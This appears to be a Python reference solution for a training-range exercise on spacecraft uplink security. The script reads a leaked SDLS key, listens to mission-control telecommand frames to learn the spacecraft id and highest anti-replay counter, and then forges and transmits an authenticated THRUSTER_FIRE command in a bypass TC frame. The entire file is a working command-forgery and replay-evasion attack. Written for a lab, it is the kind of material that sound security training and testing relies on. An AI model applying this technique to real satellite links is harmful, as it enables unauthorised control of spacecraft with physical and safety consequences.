"""Reference attack for otar-rekey: run on the attacker workstation, as the student.

1. Read the leaked key and its SPI from ``~/incident.txt``.
2. Listen on the uplink air (UDP 5101 on the rf segment) until a frame of mission control
   on that SPI goes by: its header gives the spacecraft id, its SDLS IV the SA's counter
   (the next frame must carry a higher one).
3. Build THRUSTER_FIRE with the scapy layers (TC frame of type BD, so COP-1 is not
   involved / segment header / space packet / PUS-C 8,1), protect it with the leaked key
   (SDLS AES-GCM, sequence number = highest heard + 1) and transmit it to rf-link:5100.
   The spacecraft executes a command mission control never sent.

Exit status 0 when the forged frame was sent; 2 when a step failed (message on the last
line).
"""

from __future__ import annotations

import socket
import struct
import sys
import threading
import time
from pathlib import Path

from scapy.packet import Raw

from labctl.protocols.layers import (
    PusTc,
    SDLSHeader,
    SpacePacket,
    TCFrame,
    TCSegment,
    configure_tc,
    dissect,
    sdls_protect,
)
from labctl.protocols.sdls import Keyring, SdlsEngine, SecurityAssociation
from labctl.range import wiring

INCIDENT = Path.home() / "incident.txt"
RF_LINK = (wiring.RF_LINK, wiring.UPLINK_IN)
UPLINK_AIR = wiring.UPLINK_AIR
PLATFORM_APID = 0x064
THRUSTER_FIRE = 4  # 8,1 function id
BURN_MS = 2600
WAIT_FOR_TRAFFIC_S = 90.0


class Heard:
    """Highest SDLS counter (IV) heard on the uplink air per SPI, and the SCID."""

    def __init__(self) -> None:
        self.counters: dict[int, int] = {}
        self.scid: int | None = None
        self.lock = threading.Lock()

    def listen(self) -> None:
        configure_tc(sdls=True)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.bind(("", UPLINK_AIR))
            while True:
                datagram = sock.recv(2048)
                try:
                    frame = dissect(TCFrame, datagram)
                except ValueError:
                    continue
                if frame.ctrl_cmd or SDLSHeader not in frame:
                    continue  # COP-1 directives go in clear
                header = frame[SDLSHeader]
                counter = int.from_bytes(bytes(header.iv), "big")
                with self.lock:
                    self.scid = int(frame.scid)
                    if counter > self.counters.get(header.spi, 0):
                        self.counters[header.spi] = counter

    def counter(self, spi: int) -> tuple[int, int] | None:
        with self.lock:
            if spi not in self.counters or self.scid is None:
                return None
            return self.scid, self.counters[spi]


def leaked() -> tuple[int, bytes]:
    """The SPI and key the incident file reports."""
    fields = {}
    for line in INCIDENT.read_text(encoding="utf-8").splitlines():
        key, sep, value = line.partition(":")
        if sep and not key.startswith("#"):
            fields[key.strip()] = value.strip()
    return int(fields["uplink_spi"]), bytes.fromhex(fields["uplink_key"])


def forge(key: bytes, spi: int, scid: int, arsn: int) -> bytes:
    """THRUSTER_FIRE in a type-BD frame, SDLS-protected with the leaked key."""
    frame = (
        TCFrame(bypass=1, scid=scid, vcid=0, seq=0)
        / TCSegment(seq_flags=3, map_id=0)
        / SpacePacket(apid=PLATFORM_APID, seq_count=0x2A2A)
        / PusTc(service=8, subtype=1)
        / Raw(struct.pack(">HH", THRUSTER_FIRE, BURN_MS))
    )
    engine = SdlsEngine.of([SecurityAssociation(spi, sequence_number=arsn - 1)], Keyring({0: key}))
    return bytes(sdls_protect(frame, engine, spi))


def main() -> int:
    heard = Heard()
    threading.Thread(target=heard.listen, daemon=True).start()
    print(f"listening on the uplink air (UDP {UPLINK_AIR})", flush=True)
    try:
        spi, key = leaked()
    except (OSError, KeyError, ValueError) as exc:
        print(f"cannot read {INCIDENT}: {exc}", flush=True)
        return 2
    print(f"leaked key for SPI {spi}: {key.hex()}", flush=True)
    deadline = time.monotonic() + WAIT_FOR_TRAFFIC_S
    while (seen := heard.counter(spi)) is None and time.monotonic() < deadline:
        time.sleep(0.5)
    if seen is None:
        print(f"no uplink frame on SPI {spi} heard: wait for mission control to command")
        return 2
    scid, counter = seen
    frame = forge(key, spi, scid, counter + 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(frame, RF_LINK)
    print(f"sent THRUSTER_FIRE {BURN_MS} ms, SCID {scid}, SPI {spi}, sequence number {counter + 1}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
